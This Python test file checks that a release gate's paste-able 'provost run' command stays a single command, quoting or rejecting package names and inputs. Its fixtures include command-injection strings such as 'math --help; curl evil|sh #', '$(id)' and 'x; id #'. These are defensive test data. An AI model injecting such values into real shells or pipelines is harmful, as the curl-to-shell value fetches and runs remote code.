"""What the gate prints to be pasted runs one command, whatever a release says of itself."""

import shlex

import pytest
from pydantic import ValidationError

from lineage.artifacts import Artifact, Release, put_manifest, read_manifest
from lineage.compatibility.checks import Finding
from lineage.errors import LineageError
from tasks.gate.plan import make_plan
from tasks.gate.refork import Refork, read_refork, request_refork
from tests.gate.test_plan import faculty, runner  # noqa: F401 - fixtures
from tests.support.making import take, write_record

EVIL = "math --help; curl evil|sh #"
NOTE = Finding(code="other-fork", severity="refusal", subject="a", evidence="b", next_step="c")


def attested(runner, faculty, package):  # noqa: F811
    """Release a teacher of math whose environment was collected from ``package``."""
    faculty.teacher("math", 1)
    first = make_plan(runner, ["math@1"], "fork-point@1").teachers[0]
    release = read_manifest(runner.store, first.release.digest, Release)
    record, digest = write_record(
        runner.store, b"", output=release.environment.digest, output_kind="environment",
        notes={"package": package},
    )  # fmt: skip
    environment = Artifact(kind="environment", digest=digest, record=record)
    made = (release.checkpoint.record, release.checkpoint.digest)
    manifest = put_manifest(runner.store, release.model_copy(update={"environment": environment}))
    record = write_record(
        runner.store, b"", take("checkpoint", made), output=manifest, output_kind="release"
    )
    faculty.register("teacher.math", record, "release")


@pytest.mark.parametrize(
    ("package", "team"),
    [
        ("acme.teachers.math", "acme.teachers.math"),
        (EVIL, "math"),
        ("$(id)", "math"),
        ("--request", "math"),
        ("a\nb", "math"),
        ("a.b\n", "math"),
        ("a..b", "math"),
        ("", "math"),
    ],
)
def test_only_a_dotted_name_is_a_package(runner, faculty, package, team):  # noqa: F811
    attested(runner, faculty, package)
    plan = make_plan(runner, ["math@2"], "fork-point@1")
    asked = request_refork(runner, plan, plan.teachers[0], [NOTE], ())
    assert asked.command == f"provost run teacher {team} --request {asked.stored.digest}"
    where = "acme.teachers.math" if "acme" in team else "workflows.teachers.math"
    assert asked.refork.launch_plan == f"{where}.workflow.climb"
    assert read_refork(runner.store.get_bytes(asked.stored.digest)) == asked.refork


def request(**changed):
    fields = {
        "teacher": "teacher.math@1", "domain": "math", "owner": "team", "reasons": ["r"],
        "team": "math", "launch_plan": "l", "inputs": {}, "trained": [],
    }  # fmt: skip
    return Refork(**(fields | changed))


def test_a_request_by_hand_is_checked_too():
    with pytest.raises(ValidationError):
        request(team=EVIL)
    text = request().model_dump_json().replace('"team":"math"', f'"team":"{EVIL}"')
    with pytest.raises(LineageError):
        read_refork(text.encode())


def test_inputs_are_quoted_for_a_shell():
    given = request(inputs={"fork_point": EVIL, "x; id #": 7}).given
    assert shlex.split(given) == ["--fork-point", EVIL, "--x; id #", "7"]
